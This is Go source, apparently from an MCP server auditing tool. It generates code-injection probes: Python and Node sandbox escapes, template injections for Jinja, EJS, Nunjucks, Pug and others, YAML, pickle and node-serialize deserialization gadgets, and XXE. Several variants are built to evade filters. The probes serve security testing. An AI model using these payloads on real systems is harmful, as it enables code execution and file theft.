package attack

import (
	"cmp"
	"encoding/base64"
	"slices"
	"strconv"
	"strings"

	"github.com/mcpaudit/mcpaudit/runner/inputs"
	"github.com/mcpaudit/mcpaudit/runner/lazyregexp"
)

// Expressions that open a planted file when they are evaluated, and are odd texts otherwise. That of Python works
// without builtins, whose removal is a common guard of eval.
const (
	python = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("@",0)`
	// javaScript catches its rejection: an unhandled one would end Node.js where import is not allowed.
	javaScript = `import("fs").then(f=>f.readFileSync("@")).catch(()=>0)`
	// machine leaves a separate context by way of an object that was passed into it.
	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
	// spelled, escaped, inParts, and two forms below avoid the words that a filter may forbid.
	spelled = `globalThis["pro"+"cess"]["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
	escaped = `this.constructor.constructor("return pro"+"cess")()["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
	inParts = `getattr(getattr(print,"_"+"_self_"+"_"),"op"+"en")("@")`
)

// wideNames is python with each name in full width in part, which Python reads as the plain one (NFKC) and a filter does not.
var wideNames = dunder.ReplaceAllStringFunc(strings.Replace(python, `"open"`, `"op"+"en"`, 1), func(name string) string {
	return "_＿" + string(rune(name[2])-'a'+'ａ') + name[3:len(name)-2] + "_＿"
})

// dunder matches the names of attributes that each object of Python has.
var dunder = lazyregexp.New(`__[a-z]+__`)

// serialized is JSON with a function that node-serialize calls.
var serialized = `{"x":"_$$ND_FUNC$$_function(){` + strings.ReplaceAll(machine, `"`, `'`) + `}()"}`

// codeForms are the ways to write an expression into a value.
var codeForms = []form{
	evaluated("as an expression of Python", python),
	evaluated("as an expression of JavaScript", javaScript),
	behind("behind the value, as an expression of JavaScript", ","+javaScript),
	behind("behind the value, as an expression of Python", ","+python),
	behind("joined to the value, as an expression of JavaScript", "+"+javaScript),
	behind("joined to the value, as an expression of Python", "+"+python),
	evaluated("as a call of open in brackets", `(open)("@")`),
	evaluated("in a template of JavaScript that has braces", "{{"+javaScript+"}}"),
	behind("behind a semicolon, as an expression of JavaScript", ";"+javaScript+"//"),
	behind("on a line of its own, as an expression of Python", "\n"+python+"#"),
	behind("behind a bracket, as an expression of JavaScript", ")+("+javaScript),
	behind("behind a bracket, as an expression of Python", ")+("+python),
	formatted,
	evaluated("behind a single quote, as an expression of JavaScript", "'+"+javaScript+"+'"),
	evaluated("behind a double quote, as an expression of JavaScript", `"+`+strings.ReplaceAll(javaScript, `"`, "'")+`+"`),
	evaluated("behind a single quote, as an expression of Python", "'+str("+python+")+'"),
	evaluated("behind a double quote, as an expression of Python", `"+str(`+strings.ReplaceAll(python, `"`, "'")+`)+"`),
	evaluated("in a template of JavaScript", "${"+javaScript+"}"),
	evaluated("in a template of Jinja", `{{ cycler.__init__.__globals__.os.open("@",0) }}`),
	evaluated("in a statement of Jinja", `{% set note = cycler.__init__.__globals__.os.open("@",0) %}`),
	evaluated("as a call of open", `open("@")`),
	evaluated("as an expression of JavaScript for a context of its own", machine),
	evaluated("as YAML of Python", `!!python/object/apply:builtins.open ["@"]`),
	evaluated("as an expression of JavaScript with its words in parts", spelled),
	evaluated("as an expression of JavaScript for a context of its own, with its words in parts", escaped),
	evaluated("as an expression of Python with its words in parts", inParts),
	evaluated("in templates of JavaScript with its words in parts", "{{"+spelled+"}} ${"+spelled+"}"),
	behind("behind the value, as an expression of JavaScript with its words in parts", ","+spelled),
	behind("behind the value, as an expression of Python with its words in parts", ","+inParts),
	evaluated("in a template of Jinja with its words in codes", `{{ (cycler|attr("\x5f\x5finit\x5f\x5f")|attr("\x5f\x5fglobals\x5f\x5f")).os.open("@",0) }}`),
	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
	evaluated("in a template of Nunjucks", `{{ range.constructor("return process.getBuiltinModule('fs').readFileSync('@')")() }}`),
	evaluated("in a template of doT", `{{= process.getBuiltinModule("fs").readFileSync("@") }}`),
	evaluated("in a template of Pug", `| #{process.getBuiltinModule("fs").readFileSync("@")}`),
	evaluated("in a filter of JSONPath", "$..[?("+machine+")]"),
	evaluated("as a chain of constructors", `constructor.constructor("return process.getBuiltinModule('fs').readFileSync('@')")()`),
	evaluated("in a string of Python that is formatted", `{open("@")}`),
	evaluated("as an expression of Python with letters in full width", wideNames),
	evaluated("as YAML of Python whose tag is written in full", `!<tag:yaml.org,2002:python/object/apply:builtins.open> ["@"]`),
	unquoted("as an expression of JavaScript without quotes", "globalThis.process.getBuiltinModule(String.fromCharCode(102,115)).readFileSync(String.fromCharCode(@))"),
	unquoted("as a call of open without quotes", "open(bytes((@)))"),
	evaluated("in a template of Mako", "${"+python+"}"),
	evaluated("in a template of Python that has braces", "{{ "+python+" }}"),
	inBase64("as a pickle of Python, in Base64", "cbuiltins\nopen\n(V@\ntR."),
	evaluated("as an external entity of XML", `<?xml version="1.0"?><!DOCTYPE note [<!ENTITY note SYSTEM "@">]><note>&note;</note>`),
	evaluated("as YAML of JavaScript", "toString: &note !!js/function 'function(){return "+machine+"}'\ntoJSON: *note"),
	evaluated("as YAML of JavaScript that is called at once", `note: !!js/function (function(){return `+machine+`})()`),
	evaluated("as a function of node-serialize", serialized),
	inBase64("as a function of node-serialize, in Base64", serialized),
}

// obeyedForms are for objects that take any keys. A server may pass such an object on to what evaluates some of them:
// a filter of a database, or a template engine that writes the names in its options into code.
var obeyedForms = []form{
	under("as what a filter evaluates", machine, "$where"),
	under("as an option of EJS", "x=1;"+machine+";var y", "outputFunctionName"),
	under("as an option of EJS in the settings of a view", "x=1;"+machine+";var y", "settings", "view options", "outputFunctionName"),
	under("as an option of EJS for names", "x="+machine, "localsName"),
}

// under is a form with the expression at a path of keys.
func under(name, expression string, keys ...string) form {
	f := evaluated(name, expression)
	f.under = keys
	return f
}

// formatted is a form whose proof is in the answer: Python's str.format follows the attributes of an object
// that a template names, to the globals of a module.
var formatted = form{name: "in a text of Python that is formatted", write: func(f field, _ inputs.Mark, _ int) string {
	name := "0"
	if found := placeholder.FindStringSubmatch(f.core() + " " + f.said); found != nil {
		name = found[1]
	}
	return f.before + "{" + name + ".__init__.__globals__}" + f.behind
}}

// placeholder matches a replacement field of str.format.
var placeholder = lazyregexp.New(`\{([A-Za-z_]\w{0,31})(?:[.\[:!][^{}]{0,64})?\}`)

// Formatted reports whether the answer to an attempt shows the globals of a Python module.
func (a Attempt) Formatted() bool {
	return a.Family == Code && a.Form == formatted.name && a.Accepted && globals.MatchString(a.Answer)
}

// globals matches the globals of a module as CPython prints them.
var globals = lazyregexp.New(`\{'__name__': '[\w.]{1,64}', '__doc__': `)

const (
	maxCode       = 96 // attempts on one target
	maxCodeFields = 2  // fields for all forms
	likelyCode    = 4  // forms for the other fields
)

// forCode matches names and descriptions of values that may be evaluated.
var forCode = lazyregexp.New(`(?i)expr|formula|filter|template|condition|predicate|equation|query|transform|rule|spec|script|code|math|calc|yaml|xml|svg|feed|data|config|` +
	`state|object|placeholder|snapshot|payload|pickle|base64|serial|session|dump|blob`)

// packed matches those of values that may be a pickle.
var packed = lazyregexp.New(`(?i)snapshot|payload|pickle|base64|serial|session|dump|blob|state|cache|token|object|model`)

// codeSteps returns the attempts of family Code, first in the fields whose names suggest evaluation. Numbers come after
// texts.
func codeSteps(fields []field) (all []step) {
	fields = slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return f.next || !f.text && !f.number })
	slices.SortStableFunc(fields, func(a, b field) int { return rankCode(a) - rankCode(b) })
	all = formed(Code, obeyedForms, keys(fields))
	for n, form := range codeForms {
		tried := 0
		for _, f := range fields {
			pickle := form.packed && f.text && f.speaksOf(packed)
			if len(all) < maxCode && (tried < maxCodeFields && f.text || n < likelyCode || pickle) {
				all = append(all, step{family: Code, form: form, field: f})
			}
			if f.text && !pickle {
				tried++
			}
		}
	}
	slices.SortStableFunc(all, func(a, b step) int { return a.notation() - b.notation() })
	return all
}

// openers open a placeholder in languages of templates.
var openers = []string{"{{", "{%", "<%", "${"}

// notation is 0 for an expression in the placeholder of a template that the honest value or the description of its field
// shows, or else 1.
func (s step) notation() int {
	shown := s.field.core() + " " + s.field.said
	if slices.ContainsFunc(openers, func(open string) bool {
		return strings.Contains(shown, open) && strings.Contains(s.form.write(s.field, inputs.Mark{}, 1), open)
	}) {
		return 0
	}
	return 1
}

// evaluated is a form with an expression, in which "@" stands for the file.
func evaluated(name, expression string) form {
	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
		return f.before + strings.ReplaceAll(expression, "@", file(number)) + f.behind
	}}
}

// unquoted is a form with an expression, in which "@" stands for the codes of the file's name.
func unquoted(name, expression string) form {
	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
		var codes []string
		for _, c := range []byte(file(number)) {
			codes = append(codes, strconv.Itoa(int(c)))
		}
		return f.before + strings.ReplaceAll(expression, "@", strings.Join(codes, ",")) + f.behind
	}}
}

// behind keeps the honest value before the expression, for guards that check the beginning of a value.
func behind(name, expression string) form {
	return form{name: name, write: func(f field, m inputs.Mark, number int) string {
		return f.before + f.begun(m) + strings.ReplaceAll(expression, "@", file(number)) + f.behind
	}}
}

// formula matches values that may be a whole expression.
var formula = lazyregexp.New(`^[\w\pL\pM./:@%+=,*^() -]+$`)

// begun returns the text before an expression: the honest value if it may be an expression itself, or else its beginning
// or a name.
func (f field) begun(m inputs.Mark) string {
	core := f.core()
	if formula.MatchString(core) && strings.Count(core, "(") == strings.Count(core, ")") {
		return core
	}
	return cmp.Or(plain.FindString(core), m.ID())
}

// file returns the file that an expression opens.
func file(number int) string { return inputs.OutsideFile(number, ".txt") }

// inBase64 is a form in Base64.
func inBase64(name, text string) form {
	return form{name: name, packed: true, write: func(f field, _ inputs.Mark, number int) string {
		return f.before + base64.StdEncoding.EncodeToString([]byte(strings.ReplaceAll(text, "@", file(number)))) + f.behind
	}}
}

func rankCode(f field) int {
	switch {
	case !f.text:
		return 3
	case forCode.MatchString(f.name[strings.LastIndexByte(f.name, '.')+1:]):
		return 0
	case f.speaksOf(forCode):
		return 1
	}
	return 2
}
